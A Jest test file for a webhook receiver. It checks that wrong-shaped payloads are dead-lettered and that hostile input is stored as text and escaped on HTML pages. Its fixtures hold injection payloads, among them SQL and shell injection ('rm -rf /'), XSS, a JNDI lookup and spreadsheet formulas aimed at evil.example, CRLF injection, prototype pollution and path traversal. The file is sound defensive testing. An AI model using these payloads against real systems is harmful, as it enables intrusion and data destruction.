import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { DeadLetterReason } from '../../src/kit/errors.ts';
import type { Entry } from '../../src/kit/inbox/inbox.ts';
import { hotdocs } from '../../src/kit/sources/hotdocs/index.ts';
import { phenixid } from '../../src/kit/sources/phenixid/index.ts';
import { risr } from '../../src/kit/sources/risr/index.ts';
import type { RawReply } from '../support/raw.ts';
import { deliver, expectDiscreetLog, proven, startTarget, type Sender, type Target } from './support.ts';

let target: Target;
beforeAll(async () => {
  target = await startTarget({
    env: {
      HOTDOCS_POST_PROCESSING_EVENT_SECRET: undefined,
      HOTDOCS_POST_PROCESSING_EVENT_TOKEN: 'a-legacy-token-of-thirty-two-chars',
    },
  });
});
afterAll(async () => {
  expectDiscreetLog(target);
  await target.receiver.stop();
});

/** A kind of delivery whose content a test writes by hand. */
interface Channel extends Sender {
  /** JSON of a good event, about a subject of its own, with these members in its payload. */
  json(id: string, members: string): string;
  /** What its sender is told, whatever we make of the content. */
  readonly accepted: string;
}

function hotdocsJson(type: string) {
  return (id: string, members: string) =>
    `{"eventId":"${id}","eventType":"${type}","data":{"workItemId":"${id}","workItemVersionId":"v"${members}}}`;
}

function hotdocsChannel(type: string, accepted: string): Channel {
  const path = `/hotdocs/${type}`;
  const json = hotdocsJson(type);
  return { source: hotdocs, type, path, json, accepted };
}

function risrChannel(type: string, members: (id: string) => string): Channel {
  const json = (id: string, more: string) => `{"webhook_request_id":"${id}",${members(id)}${more}}`;
  return {
    ...{ source: risr, type, path: `/risr/${type}`, json },
    accepted: '{"ok":true}',
  };
}

const notification: Channel = {
  ...{ source: phenixid, type: 'OrderSigned', path: '/phenixid' },
  json: (id, members) => `{"orderId":"${id}","eventType":"OrderSigned","taskId":"${id}"${members}}`,
  accepted: '{"ok":true}',
};
const completed = hotdocsChannel('NewWorkItemVersionComplete', '');
const legacy = hotdocsChannel('PostProcessingEvent', '');
const interview = hotdocsChannel('CustomInterviewEvent', '{}');
const profile = risrChannel('profile_updated', (id) => `"id":"${id}","rev":"1-a"`);
const login = risrChannel('user_logged_in', (id) => `"user":"${id}"`);

const channels: readonly (readonly [string, Channel])[] = [
  ['a PhenixID notification', notification],
  ['a HotDocs event in a JWT', completed],
  ['a HotDocs event with an access token', legacy],
  ['a HotDocs event somebody waits for', interview],
  ['a risr event', profile],
  ['a risr login', login],
];

let count = 0;
function nextId(): string {
  count += 1;
  return `f-${count}`;
}

/** Delivers authentic content that no handler may see: answered as ever, kept byte for byte, replayed after a fix. */
async function expectDeadLetter(
  channel: Channel,
  content: string | Buffer,
  reason: DeadLetterReason,
): Promise<{ reply: RawReply; entry: Entry }> {
  const { app } = target.receiver;
  const { reply, entry } = await deliver(target, await proven(target, channel, content));
  expect([reply.body, entry.status, reasonOf(entry)]).toEqual([channel.accepted, 'dead', reason]);
  if (channel !== legacy) expect(entry.content.equals(Buffer.from(content))).toBe(true);
  expect(await app.inbox.replay(entry.seq)).toMatchObject({ status: 'waiting', attempts: 0 });
  await app.idle();
  const replayed = await app.inbox.find(entry.seq);
  expect([replayed?.status, replayed?.attempts]).toEqual(['dead', 1]);
  return { reply, entry };
}

function reasonOf({ note }: Entry): string | undefined {
  return note?.split(':')[0];
}

async function expectHandled(channel: Channel, members: string): Promise<Entry> {
  const content = channel.json(nextId(), members);
  const { reply, entry } = await deliver(target, await proven(target, channel, content));
  expect([reply.body, entry.status]).toEqual([channel.accepted, 'done']);
  return entry;
}

describe('what genuine content does not say as it should', () => {
  for (const [name, channel] of channels) {
    it(`is stored, answered and kept from the handler: ${name} with a member twice`, async () => {
      await expectDeadLetter(channel, channel.json(nextId(), ',"x":1,"x":2'), 'json_forbidden');
    });

    it(`changes no object: ${name} with __proto__`, async () => {
      const members = ',"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}';
      await expectDeadLetter(channel, channel.json(nextId(), members), 'json_forbidden');
      expect({}).not.toHaveProperty('polluted');
    });
  }

  it('is kept when a PhenixID signature proves it and it is no JSON', async () => {
    await expectDeadLetter(notification, '<event><type>OrderSigned</type></event>', 'json_invalid');
  });

  it('includes names that differ by letter case, where the sender is read so', async () => {
    for (const channel of [completed, legacy, interview]) {
      await expectDeadLetter(channel, channel.json(nextId(), ',"workitemid":"other"'), 'json_forbidden');
    }
  });

  it('and where letter case counts, the other spelling is another member', async () => {
    const entry = await expectHandled(notification, ',"TASKID":"other","EventType":"OrderAccepted"');
    expect([entry.type, entry.subject]).toEqual(['OrderSigned', `phenixid task:f-${count}`]);
    await expectHandled(profile, ',"ID":"other","Rev":"9-z"');
  });
});

describe('F7: a payload of another shape', () => {
  it.each([
    ['an object for the id', notification, '{"eventType":"OrderSigned","taskId":{"a":1}}'],
    ['a list for the id', notification, '{"eventType":"OrderSigned","taskId":["t"]}'],
    ['a number for the id', notification, '{"eventType":"OrderSigned","taskId":7}'],
    ['no id', notification, '{"eventType":"OrderSigned"}'],
    ['null for the id', notification, '{"eventType":"OrderSigned","taskId":null,"orderId":null}'],
    ['two ids', notification, '{"eventType":"OrderSigned","taskId":"a","orderId":"b"}'],
    ['a path for the id', notification, '{"eventType":"OrderSigned","taskId":"../../etc/passwd"}'],
    ['dots for the id', notification, '{"eventType":"OrderSigned","taskId":".."}'],
    ['no ids', completed, '{"eventId":"f7-1","eventType":"NewWorkItemVersionComplete","data":{}}'],
    ['a list for data', completed, '{"eventId":"f7-2","data":[]}'],
    ['null for an id', completed, '{"eventId":"f7-3","data":{"workItemId":null,"workItemVersionId":"v"}}'],
    ['text for the user', interview, '{"eventId":"f7-4","data":{"user":"Mia"}}'],
    ['a number for a name', interview, '{"eventId":"f7-5","data":{"eventName":7}}'],
    ['text for a list', completed, completed.json('f7-6', ',"documents":"none"')],
    ['a list of lists', completed, completed.json('f7-7', ',"documents":[[]]')],
    ['no id', profile, '{"webhook_request_id":"f7-8","rev":"1-a"}'],
    ['no revision', profile, '{"webhook_request_id":"f7-9","id":"p"}'],
    ['a bare number for the revision', profile, '{"webhook_request_id":"f7-10","id":"p","rev":7}'],
    ['a path for the id', profile, '{"webhook_request_id":"f7-11","id":"a/../b","rev":"1-a"}'],
    ['an object for a name', profile, profile.json('f7-12', ',"firstName":{"$gt":""}')],
    ['a number for the delivery id', profile, '{"webhook_request_id":7,"id":"p","rev":"1-a"}'],
    ['a very long delivery id', profile, profile.json('i'.repeat(10_000), '')],
    ['no user', login, '{"webhook_request_id":"f7-13"}'],
    ['an object for the user', login, '{"webhook_request_id":"f7-14","user":{"id":"u"}}'],
  ])('is kept for a human: %s', async (_, channel, content) => {
    await expectDeadLetter(channel, content, 'payload_invalid');
  });

  it.each(['0000-00-00', '+275760-09-13', '2016-12-31T23:59:60Z', '2024-05-14T09:30:00', 'yesterday', ''])(
    'is fine where the sender promises no shape: the date %j',
    async (date) => {
      await expectHandled(profile, `,"createdDate":"${date}"`);
      await expectHandled(interview, `,"createdDate":"${date}"`);
    },
  );

  it('is fine with members and enumerated values that nobody has heard of', async () => {
    for (const [, channel] of channels) await expectHandled(channel, ',"invented":{"a":[null,true]}');
    const account = ',"createdBy":{"accountType":"Robot"}';
    await expectHandled(interview, account);
  });
});

describe('F8: an event type', () => {
  const foreign = [
    ['unknown', '"WorkItemForgotten"', 'event_unknown'],
    ['of another endpoint', '"PostProcessingEvent"', 'event_mismatch'],
    ['of half a million letters', `"${'N'.repeat(500_000)}"`, 'event_unknown'],
  ] as const;

  it.each(foreign)(
    'of HotDocs %s is kept for a human, and whoever waits is answered',
    async (_, type, reason) => {
      for (const channel of [completed, interview]) {
        const content = channel.json(nextId(), '').replace(/"eventType":"\w+"/, `"eventType":${type}`);
        await expectDeadLetter(channel, content, reason);
      }
    },
  );

  it('of HotDocs that is missing or null is that of the endpoint', async () => {
    for (const none of ['', '"eventType":null,']) {
      const content = completed.json(nextId(), '').replace(/"eventType":"\w+",/, none);
      const { entry } = await deliver(target, await proven(target, completed, content));
      expect([entry.type, entry.status]).toEqual(['NewWorkItemVersionComplete', 'done']);
    }
  });

  it('that an action link does not have opens a page that says so', async () => {
    const link: Sender = { source: hotdocs, type: 'ActionLink', path: '/hotdocs/ActionLink' };
    const request = await proven(target, link, '{"eventType":"Nonsense","workItemId":"w"}');
    const { reply, entry } = await deliver(target, request);
    expect([entry.status, reasonOf(entry)]).toEqual(['dead', 'event_unknown']);
    expect(reply.headers['content-type']).toBe('text/html; charset=utf-8');
    expect(reply.body).toContain('Please close this window');
  });

  it('of risr is its path, whatever the content says', async () => {
    const entry = await expectHandled(profile, ',"topic":"user_registered","eventType":"constructor"');
    expect(entry.type).toBe('profile_updated');
  });
});

/** As they stand between the quotes of a JSON string, and what a handler gets to see. */
const texts: readonly (readonly [string, string, string])[] = [
  ['an escaped NUL', '\\u0000', '\0'],
  ['a C1 control', '\u0085', '\u0085'],
  ['DEL', '\x7f', '\x7f'],
  ['a right-to-left override', '\u202egnp.exe', '\u202egnp.exe'],
  ['two escapes for a character beyond the first plane', '\\ud83d\\udcdc', '\u{1f4dc}'],
  ['a decomposed letter', 'A\u030a', 'A\u030a'],
  ['a line separator', '\u2028', '\u2028'],
  ['a byte order mark inside', '\ufeff', '\ufeff'],
  ['a non-character', '\uffff', '\uffff'],
  ['UTF-7, which stays what it is', '+ADw-script+AD4-', '+ADw-script+AD4-'],
];

it.each(texts)('E6: odd characters are handed over as they are: %s', async (_, written, read) => {
  const id = nextId();
  await deliver(target, await proven(target, profile, profile.json(id, `,"firstName":"${written}"`)));
  expect(target.receiver.records.find('profile', id)?.['firstName']).toBe(read);
});

const hostile = [
  "'; DROP TABLE entries; --",
  '{"$gt":""}',
  '$(rm -rf /) `id` | cat',
  '{{7*7}} ${7*7} <%= 7 %> #{7}',
  '=HYPERLINK("http://evil.example";"x")',
  '+1+cmd|calc',
  '<script>alert(1)</script><img src=x onerror=alert(1)>',
  '"><svg/onload=alert(1)>',
  '${jndi:ldap://evil.example/a}',
  '%0d%0aSet-Cookie: a=b',
  'a\r\nb\u2028c\u001b[31m',
];

describe('F10: text that is code to somebody', () => {
  it.each(hostile)('is kept as text: %j', async (text) => {
    const id = nextId();
    const content = profile.json(id, `,"firstName":${JSON.stringify(text)}`);
    const { entry } = await deliver(target, await proven(target, profile, content));
    expect([entry.status, entry.content.toString()]).toEqual(['done', content]);
    expect(target.receiver.records.find('profile', id)?.['firstName']).toBe(text);
  });

  it.each(hostile)('is escaped on a page: %j', async (text) => {
    const id = nextId();
    const name = `,"workItemName":${JSON.stringify(text)},"documents":[{"id":"d","name":${JSON.stringify(text)},"url":"u"}]`;
    await deliver(target, await proven(target, completed, completed.json(id, name)));
    const link: Sender = { source: hotdocs, type: 'ActionLink', path: '/hotdocs/ActionLink' };
    const { reply } = await deliver(target, await proven(target, link, `{"workItemId":"${id}"}`));
    const shown = text.replace(/[&<>"']/g, (character) => `&#${character.charCodeAt(0)};`);
    expect(Buffer.from(reply.body, 'latin1').toString().split(shown)).toHaveLength(4);
    expect(reply.body).not.toContain('<script>');
    expect(reply.headers['content-security-policy']).toContain("default-src 'none'");
  });
});

it('the receiver takes genuine deliveries of every kind after all that', async () => {
  for (const [, channel] of channels) await expectHandled(channel, '');
});
